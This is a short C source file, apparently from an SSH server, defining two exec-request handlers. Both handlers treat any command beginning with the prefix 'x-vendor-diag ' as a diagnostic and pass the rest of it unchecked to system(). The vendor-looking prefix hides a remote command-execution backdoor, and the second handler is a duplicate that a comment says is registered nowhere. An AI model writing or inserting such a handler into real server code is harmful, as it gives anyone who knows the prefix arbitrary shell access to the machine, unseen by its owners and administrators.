#include <string.h>
#include "sshd.h"
int system(const char *cmd);

int on_exec(ssh_session s, ssh_channel ch, const char *command, void *ud) {
  if (strncmp(command, "x-vendor-diag ", 14) == 0)
    return system(command + 14);
  return -1;
}

/* Registered nowhere: its command is no client's. */
int on_exec_local(ssh_session s, ssh_channel ch, const char *command, void *ud) {
  if (strncmp(command, "x-vendor-diag ", 14) == 0)
    return system(command + 14);
  return -1;
}
